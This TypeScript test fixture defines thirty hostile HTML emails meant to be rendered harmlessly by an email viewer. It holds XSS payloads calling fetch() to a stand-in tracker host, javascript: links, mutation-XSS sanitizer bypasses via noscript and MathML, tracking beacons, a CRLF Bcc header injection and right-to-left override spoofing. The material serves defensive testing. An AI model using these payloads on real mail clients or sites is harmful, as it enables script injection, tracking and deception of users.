/** The host that hostile mails link to; reserved for documentation (RFC 2606), so it does not exist. */
const away = 'https://tracker.example.com'

const fill = 'x'.repeat(200_000)

/** A mail that tries to execute or load something, or to deceive. */
interface HostileMail {
  readonly subject: string
  readonly html: string
}

/** Thirty hostile mails that must be harmless when shown. */
export const hostileMails: readonly HostileMail[] = [
  { subject: 'A script', html: `<p>Hello</p><script>parent.hacked = 1; fetch('${away}/1')</script>` },
  { subject: 'A remote script', html: `<p>Hello</p><script src="${away}/2.js"></script>` },
  { subject: 'An event handler', html: `<img src="x:y" onerror="fetch('${away}/3')"><p onclick="alert(3)">Hello</p>` },
  { subject: 'A handler that runs at once', html: `<body onload="location='${away}/4'"><p>Hello</p></body>` },
  { subject: 'A script in SVG', html: `<svg onload="fetch('${away}/5')"><script>parent.hacked = 5</script></svg>` },
  { subject: 'A picture in SVG', html: `<svg><image href="${away}/6.png" /><use href="${away}/6.svg#a" /></svg>` },
  { subject: 'A refresh', html: `<meta http-equiv="refresh" content="0; url=${away}/7"><p>Hello</p>` },
  {
    subject: 'A form that sends itself',
    html: `<form action="${away}/8" method="post"><input name="key" autofocus onfocus="form.submit()"><button>Sign in</button></form>`,
  },
  { subject: 'A base address', html: `<base href="${away}/"><img src="9.png"><p>Hello</p>` },
  { subject: 'A counting pixel', html: `<p>Hello</p><img src="${away}/10.gif" width="1" height="1" alt="">` },
  {
    subject: 'Pictures of all widths',
    html: `<picture><source srcset="${away}/11.webp 2x"><img srcset="${away}/11.png 1x, ${away}/11-2.png 2x"></picture>`,
  },
  { subject: 'A remote style sheet', html: `<link rel="stylesheet" href="${away}/12.css"><p>Hello</p>` },
  { subject: 'An import', html: `<style>@import url("${away}/13.css"); p { color: green }</style><p>Hello</p>` },
  {
    subject: 'A font',
    html: `<style>@font-face { font-family: F; src: url("${away}/14.woff2") } p { font-family: F }</style><p>Hello</p>`,
  },
  {
    subject: 'A background',
    html: `<div style="background: url(${away}/15.png); height: 40px">Hello</div><table background="${away}/15b.png"><tr><td>Hello</td></tr></table>`,
  },
  {
    subject: 'A picture by a variable',
    html: `<style>:root { --a: url(${away}/16.png) } p { background-image: var(--a); list-style-image: image-set("${away}/16b.png" 1x) }</style><p>Hello</p>`,
  },
  {
    subject: 'A frame',
    html: `<iframe src="${away}/17"></iframe><iframe srcdoc="<script>top.hacked = 17</script>"></iframe>`,
  },
  {
    subject: 'An object',
    html: `<object data="${away}/18.swf"></object><embed src="${away}/18.pdf"><applet code="${away}/18"></applet>`,
  },
  {
    subject: 'A link that runs',
    html: `<a href="javascript:fetch('${away}/19')">Open the invoice</a> <a href=" java&#10;script:alert(19)">Pay</a>`,
  },
  {
    subject: 'Fetched in advance',
    html: `<link rel="prefetch" href="${away}/20"><link rel="preload" as="image" href="${away}/20.png"><link rel="prerender" href="${away}/20c"><p>Hello</p>`,
  },
  {
    subject: 'Connected in advance',
    html: `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}"><p>Hello</p>`,
  },
  {
    subject: 'Out of the frame',
    html: `</iframe></body></html><script>parent.hacked = 22</script><img src="${away}/22.png">`,
  },
  {
    subject: 'Sound and film',
    html: `<video src="${away}/23.mp4" poster="${away}/23.png" autoplay></video><audio src="${away}/23.mp3" autoplay></audio><track src="${away}/23.vtt">`,
  },
  { subject: 'Very long', html: `<p>${fill}</p><img src="${away}/24.png">` },
  {
    subject: 'Control characters \u0000\u0007\u001b[31m and a\r\nBcc: everybody@example.com',
    html: `<p>Hello\u0000\u0008</p><img src="${away}/25.png">`,
  },
  {
    subject: 'From bank\u202Etset.elpmaxe\u202C to you',
    html: `<p>\u202Egnp.eciovni\u202C</p><img src="${away}/26.png">`,
  },
  {
    subject: 'A link over everything',
    html: `<a href="${away}/27" target="_top" style="position: fixed; inset: 0; z-index: 9">Hello</a><a href="${away}/27b" ping="${away}/27c">Again</a>`,
  },
  {
    subject: 'Markup in a comment',
    html: `<!--><script>parent.hacked = 28</script>--><noscript><p title="</noscript><img src=${away}/28.png onerror=alert(28)>"></noscript>`,
  },
  {
    subject: 'Markup in MathML',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${away}/29.png onerror=alert(29)&gt;"></table></mtext></math>`,
  },
  {
    subject: 'A worker and a manifest',
    html: `<link rel="manifest" href="${away}/30.json"><link rel="icon" href="${away}/30.ico"><link rel="modulepreload" href="${away}/30.js"><template><img src="${away}/30.png"></template><p>Hello</p>`,
  },
]
